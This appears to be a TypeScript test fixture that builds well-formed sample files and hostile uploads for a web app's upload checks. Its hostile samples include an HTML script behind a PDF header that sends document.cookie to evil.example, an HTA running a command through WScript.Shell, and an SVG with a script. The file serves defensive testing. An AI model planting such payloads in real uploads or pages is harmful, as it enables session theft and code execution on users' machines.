// Files the upload tests send, built byte by byte so each is exactly what its name says: whole, well-formed files of
// every format an instance may take, and the hostile ones the upload checks refuse (an HTML body behind a PDF header,
// an MP4 posing as a HEIC photo, an HTML application, a Windows shortcut, an SVG with a script).

const encoder = new TextEncoder();
export const text = (value: string) => encoder.encode(value);
export const concat = (...parts: Array<Uint8Array | number[]>) =>
  new Uint8Array(parts.flatMap((part) => [...part])) as Uint8Array<ArrayBuffer>;
const u32be = (n: number) => [(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255];
const u32le = (n: number) => [n & 255, (n >>> 8) & 255, (n >>> 16) & 255, (n >>> 24) & 255];
const box = (type: string, body: Uint8Array | number[]) => concat(u32be(8 + body.length), text(type), body);
const pngChunk = (type: string, data: number[]) => concat(u32be(data.length), text(type), data, [0, 0, 0, 0]);

/**
 * A one-page PDF with its catalog, page tree, a content stream, a cross-reference table whose offsets are right and a
 * trailer — what a real writer produces, in miniature. `note` goes into a comment so that two files can differ.
 */
export function samplePdf(note = "teste"): Uint8Array<ArrayBuffer> {
  const content = "BT /F1 12 Tf 20 100 Td (Documento de teste) Tj ET";
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
  ];
  let body = `%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3 ${note.replace(/[\r\n]/g, " ")}\n`;
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, "latin1"));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xrefAt = Buffer.byteLength(body, "latin1");
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) body += `${String(offset).padStart(10, "0")} 00000 n \n`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xrefAt}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(body, "latin1"));
}

export const SAMPLE_FILES = {
  pdf: samplePdf(),
  png: concat(
    [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
    pngChunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]),
    pngChunk("IDAT", [1, 2, 3]),
    pngChunk("IEND", []),
  ),
  jpeg: concat(
    [0xff, 0xd8, 0xff, 0xe0],
    u32be(0x00104a46).slice(0, 4),
    text("IF\0"),
    new Array(32).fill(0),
    [0xff, 0xd9],
  ),
  webp: concat(text("RIFF"), u32le(4 + 8 + 10), text("WEBP"), text("VP8 "), u32le(10), new Array(10).fill(0)),
  heic: concat(
    box("ftyp", concat(text("heic"), u32be(0), text("mif1"), text("heic"))),
    box("meta", new Array(8).fill(0)),
  ),
  mp4: concat(
    box("ftyp", concat(text("isom"), u32be(512), text("isom"), text("mp42"))),
    box("moov", new Array(16).fill(0)),
    box("mdat", new Array(32).fill(7)),
  ),
  /** A PDF header and trailer around an HTML page: what a browser that sniffs would render as a page. */
  pdfWithHtmlBody: text(
    "%PDF-1.4\n<html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>\n%%EOF\n",
  ),
  hta: text(
    '<html><head><HTA:APPLICATION id="x"/></head><script>new ActiveXObject("WScript.Shell").Run("calc")</script></html>',
  ),
  // A Windows shortcut's header (the ShellLinkHeader size and CLSID): it runs whatever it points at when opened.
  lnk: concat(
    [0x4c, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xc0, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00],
    [0x46],
    new Array(56).fill(0),
  ),
  svg: text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'),
};

/** A whole PNG of exactly `size` bytes (at least 57): its IDAT chunk holds `fill` repeated. */
export function pngOfSize(size: number, fill = 7): Uint8Array<ArrayBuffer> {
  return concat(
    [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
    pngChunk("IHDR", [0, 0, 0, 1, 0, 0, 0, 1, 8, 6, 0, 0, 0]),
    pngChunk("IDAT", new Array(size - 57).fill(fill)),
    pngChunk("IEND", []),
  );
}

/** A whole JPEG of exactly `size` bytes: its start and end markers around `middle` (default random-looking bytes). */
export function jpegOfSize(size: number, middle?: Uint8Array): Uint8Array<ArrayBuffer> {
  const body = middle ?? Uint8Array.from({ length: size - 6 }, (_, index) => (index * 131 + 17) % 251);
  return concat([0xff, 0xd8, 0xff, 0xe0], body.subarray(0, size - 6), [0xff, 0xd9]);
}
